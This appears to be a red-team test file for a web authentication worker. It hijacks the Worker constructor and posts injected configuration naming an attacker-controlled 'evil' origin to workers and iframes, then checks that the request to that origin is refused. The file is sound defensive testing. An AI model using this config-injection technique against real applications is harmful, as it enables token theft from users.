// A real attacker: got hold of the worker object, and sends it a second configuration that lists the attacker's
// server.
export default {
  row: "messages",
  expected: ["loses", "loses"],
  before: (redteam) => {
    const { Worker } = globalThis;
    redteam.workers = [];
    globalThis.Worker = class extends Worker {
      constructor(...given) {
        super(...given);
        redteam.workers.push(this);
      }
    };
  },
  after: async ({ evil, home }, redteam) => {
    const heard = [];
    let told = 0;
    for (const worker of redteam.workers) {
      const { far, heard: answers, ask } = redteam.channel();
      heard.push(answers);
      worker.postMessage({ endpoints: `${home}/auth`, resources: [{ origin: evil }] }, [far]);
      told += 1;
      await redteam.wait(300);
      ask(`${evil}/v1/me`);
    }
    for (const frame of document.querySelectorAll("iframe")) {
      const { port2 } = new MessageChannel();
      frame.contentWindow.postMessage({ resources: [{ origin: evil }] }, "*", [port2]);
      told += 1;
    }
    await redteam.wait(1500);
    return { told, heard, listed: await redteam.attempt(`${evil}/v1/me`) };
  },
  reached: ({ brought: { told, listed } }) => told > 0 && listed === "resource_not_allowed",
};
